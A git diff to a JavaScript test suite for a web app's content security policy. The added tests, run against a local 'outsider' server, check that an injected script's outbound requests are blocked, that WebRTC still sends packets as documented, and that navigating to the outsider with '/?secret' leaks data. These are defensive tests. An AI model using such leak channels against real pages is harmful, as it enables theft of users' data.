@@ -1,5 +1,6 @@
-/** What leaves the page, and what stays in the browser: nothing. */
+/** What leaves the page, and what stays in the browser: nothing, as long as no other script gets in; and what the policy does then. */
 import { equal, ok } from '../conformance/assert.js';
+import { askInEveryWay, connectByWebRtc, withOutsider } from './outsider.js';
 import { choose, seen } from './page.js';
 import { policy } from './site.js';
 import { named } from '../conformance/outcome.js';
@@ -15,7 +16,7 @@ const expected = {
 };
 
 /** Those that look at what the other tests left behind: they come last. */
-export function privateTests(page, { url, reports }) {
+export function privateTests(page, { engine, url, reports }) {
   const tests = {
     'the policy is this one': () => {
       const directives = policy()
@@ -54,7 +55,7 @@ export function privateTests(page, { url, reports }) {
       const names = files.map(([name]) => name.replace(url, '/').replace(/-[\w-]{8}\./, '-HASH.')).sort();
       equal([names, files.some(([, holds]) => holds)], [['/', '/assets/index-HASH.css', '/assets/index-HASH.js', '/icon.svg'], false]);
     },
-    'a script that got in could send nothing, and the server would hear of it': async () => {
+    'another script does not get in, a request is refused, and the server hears of it': async () => {
       const refused = await page.run(async () => {
         const outcomes = {};
         const broken = [];
@@ -86,6 +87,29 @@ export function privateTests(page, { url, reports }) {
       for (let tries = 0; tries < 100 && reports.length === 0; tries++) await new Promise((resolve) => setTimeout(resolve, 50));
       ok(reports.length > 0, 'no report came');
     },
+    'of what a script that got in would ask others for, nothing arrives': () =>
+      withOutsider(async (outsider) => {
+        const ways = await page.run(askInEveryWay, outsider.url);
+        equal([ways.length, outsider.heard.requests], [17, []]);
+        // The same outsider hears whatever is allowed.
+        await fetch(`${outsider.url}/test`);
+        equal(outsider.heard.requests, ['/test']);
+      }),
+    'what no policy forbids is as the documentation says: WebRTC, where there is any': () =>
+      withOutsider(async ({ udp, heard }) => {
+        await page.goto(url);
+        const isThere = await page.run(connectByWebRtc, udp);
+        equal(isThere, engine !== 'WebKitGTK');
+        if (engine === 'Chromium') ok(heard.packets > 0, 'it sends nothing: docs/playground.md says that it does');
+      }),
+    'what no policy forbids is as the documentation says: a script that got in could leave for another page': () =>
+      withOutsider(async (outsider) => {
+        await page.run((address) => void setTimeout(() => location.assign(address)), `${outsider.url}/?secret`);
+        for (let tries = 0; tries < 100 && outsider.heard.requests.length === 0; tries++)
+          await new Promise((resolve) => setTimeout(resolve, 50));
+        equal(outsider.heard.requests[0], '/?secret');
+        await page.goto(url);
+      }),
   };
   return named(tests, 'private: ');
 }
